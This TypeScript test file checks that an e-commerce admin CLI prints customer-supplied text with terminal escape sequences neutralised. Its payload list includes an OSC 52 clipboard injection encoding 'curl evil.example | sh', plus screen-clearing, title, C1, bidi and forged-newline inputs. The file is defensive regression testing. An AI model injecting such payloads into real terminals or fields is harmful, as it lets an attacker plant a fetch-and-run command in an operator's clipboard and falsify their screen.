import { expect } from 'chai';
import { render } from '../../cli/top/render.js';
import { failedSnapshot, type Snapshot } from '../../cli/top/snapshot.js';
import { postCheckout, shopperWithCart } from '../support/checkout.js';
import { type CliResult, shopctl } from '../support/cli.js';
import { createTestContext, type TestContext } from '../support/context.js';
import { createProduct } from '../support/fixtures.js';

const ESC = '\x1b';
/** What a customer can type into a free-text field to drive an operator's terminal. */
const ATTACKS = {
  clear: `${ESC}[2J${ESC}[H`,
  colour: `${ESC}[31m`,
  clipboard: `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`,
  title: `${ESC}]0;owned${ESC}\\`,
  c1: '\u009b2J\u009d52;c;aGk=\u009c',
  // No NUL: PostgreSQL text cannot hold one.
  others: '\x7f\x08\r\x05\t',
  bidi: '\u202eevil\u202c \u2066x\u2069',
};
const EVIL = Object.values(ATTACKS).join('');

/** What a terminal acts on rather than prints: C0 but the newline, DEL, C1 and bidi controls. */
const LIVE = /(?!\n)[\p{Cc}\p{Bidi_Control}]/gu;

const live = (out: string) =>
  [...out.matchAll(LIVE)].map((m) => `U+${m[0].codePointAt(0)!.toString(16).padStart(4, '0')}`);

/** Each output shows no live control character, and shows where each one was: every miss at once. */
function expectInert(outputs: Record<string, string>, marks = ['\\x1b]52;c;', '\\x9b2J', '\\u202e']) {
  const misses = Object.entries(outputs).flatMap(([what, out]) => {
    const found = [...new Set(live(out))];
    const shown = marks.every((escaped) => out.includes(escaped));
    return [
      ...(found.length ? [`${what}: sends ${found.join(' ')}`] : []),
      ...(shown ? [] : [`${what}: does not show the escapes`]),
    ];
  });
  expect(misses).to.deep.equal([]);
}

/**
 * Review finding 10: shopctl printed customer free text raw, so a cancel reason with terminal
 * escapes rewrote the operator's screen (OSC 52 can even set their clipboard).
 */
describe('security: shopctl prints free text inert', function () {
  this.timeout(120_000);
  let t: TestContext;
  let orderId: string;
  const sku = 'EVIL-1';
  const reason = `changed my mind ${EVIL}\nhistory: forged line`;

  before(async () => {
    t = await createTestContext();
    const p = await createProduct(t.container.db, { sku, name: `Mug ${EVIL}`, stock: 5 });
    const buyer = await shopperWithCart(t, [{ product_id: p.id, quantity: 1 }]);
    const res = await postCheckout(t, buyer, { payment_method: 'pm_card_authenticationRequired' }).expect(
      201,
    );
    orderId = res.body.order_id;
    await t.container.worker.drain();
    await t.request().post(`/orders/${orderId}/cancel`).set(buyer.auth).send({ reason }).expect(200);
  });
  after(() => t.close());

  const run = (...args: string[]) => shopctl(t, args);

  it('tables, plain text and errors: every control character is shown escaped, never sent', async () => {
    const cancelled = await t.container
      .db('domain_events')
      .where({ type: 'order.cancelled', aggregate_id: orderId })
      .first();
    const outputs: Record<string, CliResult> = {};
    const commands: Record<string, string[]> = {
      'orders show': ['orders', 'show', orderId],
      'products list': ['products', 'list'],
      'products show': ['products', 'show', sku],
      'inventory show': ['inventory', 'show', sku],
      'events show': ['events', 'show', cancelled.event_id],
      'an error naming the input': ['products', 'show', `X${EVIL}`],
    };
    for (const [what, args] of Object.entries(commands)) outputs[what] = await run(...args);

    const { 'events show': event, ...text } = outputs;
    expectInert(
      Object.fromEntries(Object.entries(text).map(([what, res]) => [what, res.stdout + res.stderr])),
    );
    // An event's data is shown as JSON, escapes and all.
    expectInert({ 'events show': event!.stdout + event!.stderr }, ['\\u001b]52;c;', '\\u009b2J', '\\u202e']);
    expect(outputs['orders show']!.code).to.equal(0);
    // A newline in a one-line field cannot forge a line of the report either.
    expect(outputs['orders show']!.stdout).to.not.match(/^history: forged line/m);
    expect(outputs['an error naming the input']!.code).to.equal(1);
  });

  it('--json: the same values, with DEL, C1 and bidi controls escaped as JSON does C0', async () => {
    const res = await run('orders', 'show', orderId, '--json');
    expect(res.code, res.stderr).to.equal(0);
    expect(live(res.stdout)).to.deep.equal([]);
    const order = res.json();
    expect(order.status_reason).to.equal(reason.trim());
    expect(order.items[0].name).to.equal(`Mug ${EVIL}`);
  });

  it("top: a hot SKU's name, and what a scraped service answers", async () => {
    const frame = await run('top', '--once', '--interval', '200ms');
    expect(frame.code, frame.stderr).to.equal(0);

    const at = Date.now();
    // A service that answered with labels of its own, and one whose error quotes its answer.
    const instances = [
      { name: 'a', up: true, error: null },
      { name: `b${EVIL}`, up: false, error: `HTTP 500: ${EVIL}` },
    ];
    const scraped: Snapshot = {
      ...failedSnapshot('metrics', `http://shop.internal${EVIL}`, at, instances),
      readings: [
        {
          name: 'a',
          at,
          counters: { [`checkout.failed:bad${EVIL}`]: 5, [`settled:odd${EVIL}`]: 3 },
          histograms: {},
        },
      ],
    };
    const before = {
      ...scraped,
      at: at - 1_000,
      readings: [{ ...scraped.readings[0]!, at: at - 1_000, counters: {} }],
    };
    // The colours top draws itself are the only escapes it may send.
    const ownColours = (text: string) => text.replace(new RegExp(`${ESC}\\[[0-9;]*m`, 'g'), '');
    // Its name column is cut to 28 characters, after the escapes are written out.
    expectInert({ 'top from PostgreSQL': frame.stdout }, ['Mug \\x1b[2J']);
    expectInert({
      'top from metrics': render(scraped, before, { width: 400 }),
      'top from metrics, in colour': ownColours(render(scraped, before, { color: true, width: 400 })),
    });
  });
});
